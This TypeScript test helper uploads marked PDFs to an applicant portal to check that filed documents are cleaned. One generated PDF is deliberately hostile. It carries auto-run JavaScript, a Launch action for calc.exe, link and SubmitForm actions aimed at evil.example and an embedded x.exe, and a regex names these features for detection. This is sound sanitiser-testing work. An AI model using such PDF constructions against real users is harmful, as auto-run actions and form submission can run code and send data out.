import { recordKinds } from '@jadara/contract/records/record-kinds'
import { stream, written } from '../../documents/odd-papers.testing.ts'
import type { Applicant } from '../../testing/applicant.ts'
import { formOf } from '../../testing/forms.ts'
import type { TestPortal } from '../../testing/portal.ts'
import { noteSent } from '../concept-note/samples.testing.ts'
import { callsOf } from '../records/calls.testing.ts'
import { samples } from '../records/samples.testing.ts'
import { everythingFiled } from './contents/filed.testing.ts'

/** A PDF that was filed: its words on each page, which stand on no other page of anything. */
export type Marked = { readonly name: string; readonly title: string; readonly words: readonly string[] }

/** What the hostile paper holds and must not bring along. */
export const hostileWords =
  /JavaScript|app\.alert|evil\.example|Launch|EmbeddedFile|"\/AA"|OpenAction|SubmitForm|calc\.exe|x\.exe/
/** The paper that does whatever a PDF can do. */
export const hostileTitle = 'Paper 3'

/**
 * One who has filed everything, and each PDF of whom can be told from every other: CV, records and concept note, of one to three pages, one of
 * them hostile. In the order of the dossier.
 */
export async function markedFiling(test: TestPortal): Promise<{ who: Applicant; files: readonly Marked[] }> {
  const who = await everythingFiled(test)
  const files: Marked[] = []
  const next = (title: string) => {
    const number = files.length + 1
    const words = Array.from({ length: 1 + (number % 3) }, (_, page) => `PROOF${number}X${page + 1}`)
    const file = { name: `proof-${number}.pdf`, title, words }
    files.push(file)
    return { name: file.name, bytes: title === hostileTitle ? hostile(words) : saying(words) }
  }
  const sent = async (what: string, answer: Promise<{ readonly status: number; readonly body: unknown }>) => {
    const { status, body } = await answer
    if (status !== 200 && status !== 201) throw new Error(`${what} was answered ${status} ${JSON.stringify(body)}`)
  }
  await sent('the CV', who.post('/api/uploadfile', formOf({ type: 6 }, next('Curriculum vitae'))))
  for (const { name } of recordKinds.filter(({ file }) => file)) {
    const calls = callsOf(name, who)
    // What was added last stands first.
    for (const { id, paperTitle } of (await calls.rows()) as readonly { id: number; paperTitle?: string }[]) {
      const changes = name === 'journal' ? { paperTitle } : {}
      const title = String(samples[name].values[samples[name].title] ?? '')
      await sent(name, calls.put(id, changes, next(name === 'journal' ? String(paperTitle) : title)))
    }
  }
  await sent('the note', who.post('/api/ConceptNote', formOf(noteSent, next(noteSent.proposalTitle))))
  return { who, files }
}

const font = '<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>'
const resources = '/MediaBox [0 0 595 842] /Resources <</Font <</F1 2 0 R>>>>'
const drawn = (word: string) => stream(`BT /F1 24 Tf 60 400 Td (${word}) Tj ET`)

/** Pages that say a word each. `more` are objects from 4 + 2 × pages on. */
function saying(words: readonly string[], { root = '', page = '', more = [] as readonly string[] } = {}): Buffer {
  const kids = words.map((_, index) => `${4 + 2 * index} 0 R`).join(' ')
  return written([
    `<</Type /Catalog /Pages 3 0 R ${root}>>`,
    font,
    `<</Type /Pages /Kids [${kids}] /Count ${words.length}>>`,
    ...words.flatMap((word, index) => [
      `<</Type /Page /Parent 3 0 R ${resources} /Contents ${5 + 2 * index} 0 R ${page}>>`,
      drawn(word),
    ]),
    ...more,
  ])
}

/** Does whatever a PDF can do when it is opened, turned or clicked. */
function hostile(words: readonly string[]): Buffer {
  const [script, link, start, send, inside] = Array.from({ length: 5 }, (_, index) => `${4 + 2 * words.length + index} 0 R`)
  return saying(words, {
    root: `/OpenAction ${script} /AA <</WC ${script}>> /Names <</JavaScript <</Names [(a) ${script}]>> /EmbeddedFiles <</Names [(x) ${inside}]>>>>`,
    page: `/AA <</O ${script}>> /Annots [${link} ${start} ${send}]`,
    more: [
      '<</Type /Action /S /JavaScript /JS (app.alert\\(1\\))>>',
      '<</Type /Annot /Subtype /Link /Rect [0 0 500 500] /A <</S /URI /URI (https://evil.example/)>>>>',
      '<</Type /Annot /Subtype /Link /Rect [0 0 500 500] /A <</S /Launch /F (calc.exe)>>>>',
      '<</Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /A <</S /SubmitForm /F (https://evil.example/)>>>>',
      '<</Type /Filespec /F (x.exe) /EF <</F 2 0 R>> /Desc (EmbeddedFile)>>',
    ],
  })
}
